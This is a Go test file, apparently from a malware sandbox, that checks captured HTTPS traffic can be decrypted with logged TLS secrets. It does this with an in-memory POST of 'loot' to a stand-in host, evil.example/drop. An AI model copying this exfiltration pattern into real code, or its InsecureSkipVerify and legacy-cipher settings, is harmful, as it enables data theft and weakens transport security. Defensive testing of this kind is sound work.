package capture_test

import (
	"context"
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"io"
	"log"
	"math/big"
	"net"
	"net/http"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/detonaut/detonaut/chamber/network/capture"
)

// certificate returns one that a server of a test shows, with its own key.
func certificate(t *testing.T, key crypto.Signer) tls.Certificate {
	t.Helper()
	template := &x509.Certificate{SerialNumber: big.NewInt(1), DNSNames: []string{"evil.example"}}
	der, err := x509.CreateCertificate(rand.Reader, template, template, key.Public(), key)
	if err != nil {
		t.Fatal(err)
	}
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}
}

// oneListener is a listener with one connection.
type oneListener struct {
	conns chan net.Conn
	net.Listener
}

func (l *oneListener) Accept() (net.Conn, error) {
	conn, ok := <-l.conns
	if !ok {
		return nil, net.ErrClosed
	}
	return conn, nil
}

func (l *oneListener) Close() error   { return nil }
func (l *oneListener) Addr() net.Addr { return &net.TCPAddr{} }

// exchange captures an HTTPS exchange, as the server is configured.
func exchange(t *testing.T, server *tls.Config, http2 bool) []byte {
	t.Helper()
	c, file := newCapture(t, capture.Options{})
	w := &wire{t: t, to: c}
	w.connect()
	near, far := net.Pipe()
	defer near.Close()
	listener := &oneListener{conns: make(chan net.Conn, 1)}
	listener.conns <- &wiretapped{far, w}
	server.KeyLogWriter = keyLog{c}
	closed := make(chan struct{})
	s := &http.Server{
		ConnState: func(_ net.Conn, state http.ConnState) {
			if state == http.StateClosed {
				close(closed)
			}
		},
		TLSConfig: server, ErrorLog: log.New(t.Output(), "", 0),
		Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			io.Copy(io.Discard, r.Body)
			w.WriteHeader(http.StatusTeapot)
			io.WriteString(w, "payload")
		}),
	}
	if !http2 { // whose demands on the ciphers an old client does not meet
		s.TLSNextProto = map[string]func(*http.Server, *tls.Conn, http.Handler){}
	}
	served := make(chan error, 1)
	go func() {
		defer far.Close()
		served <- s.ServeTLS(listener, "", "")
	}()
	transport := &http.Transport{
		DialContext:       func(context.Context, string, string) (net.Conn, error) { return near, nil },
		TLSClientConfig:   &tls.Config{InsecureSkipVerify: true, MinVersion: server.MinVersion, CipherSuites: server.CipherSuites},
		ForceAttemptHTTP2: http2,
	}
	req, err := http.NewRequestWithContext(t.Context(), http.MethodPost, "https://evil.example/drop?id=7", strings.NewReader("loot"))
	if err != nil {
		t.Fatal(err)
	}
	resp, err := transport.RoundTrip(req)
	if err != nil {
		t.Fatal(err)
	}
	body, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	if err != nil || string(body) != "payload" {
		t.Fatalf("the client got %q and %v", body, err)
	}
	transport.CloseIdleConnections()
	close(listener.conns)
	s.Close()
	<-closed
	if err := <-served; !errors.Is(err, net.ErrClosed) && !errors.Is(err, http.ErrServerClosed) {
		t.Error(err)
	}
	if err := c.Close(); err != nil {
		t.Fatal(err)
	}
	return file.Bytes()
}

type keyLog struct{ to *capture.Writer }

func (k keyLog) Write(line []byte) (int, error) { return len(line), k.to.Secrets(line) }

// TestDecrypted shows that a capture is all that tshark needs to read what
// went through TLS.
func TestDecrypted(t *testing.T) {
	ec, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	old, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	http1 := func(t *testing.T, file []byte) []string {
		return tshark(t, file, "http", "http.request.method", "http.request.uri", "http.response.code", "http.file_data")
	}
	http2 := func(t *testing.T, file []byte) []string {
		return tshark(t, file, "http2.headers.path || http2.headers.status",
			"http2.headers.method", "http2.headers.path", "http2.headers.status")
	}
	overHTTP1 := []string{"POST /drop?id=7  loot", "  418 payload"}
	for _, c := range []struct {
		name   string
		server *tls.Config
		http2  bool
		read   func(*testing.T, []byte) []string
		want   []string
	}{
		{
			"TLS 1.3, HTTP/2", &tls.Config{Certificates: []tls.Certificate{certificate(t, ec)}}, true, http2,
			[]string{"POST /drop?id=7 ", "  418"},
		},
		{"TLS 1.3", &tls.Config{Certificates: []tls.Certificate{certificate(t, ec)}}, false, http1, overHTTP1},
		{
			"TLS 1.2", &tls.Config{Certificates: []tls.Certificate{certificate(t, ec)}, MaxVersion: tls.VersionTLS12},
			false, http1, overHTTP1,
		},
		{
			"TLS 1.0, RSA", &tls.Config{
				Certificates: []tls.Certificate{certificate(t, old)},
				MinVersion:   tls.VersionTLS10, MaxVersion: tls.VersionTLS10, CipherSuites: []uint16{tls.TLS_RSA_WITH_AES_128_CBC_SHA},
			}, false, http1, overHTTP1,
		},
	} {
		t.Run(c.name, func(t *testing.T) {
			got := c.read(t, exchange(t, c.server, c.http2))
			if diff := cmp.Diff(c.want, got); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
}
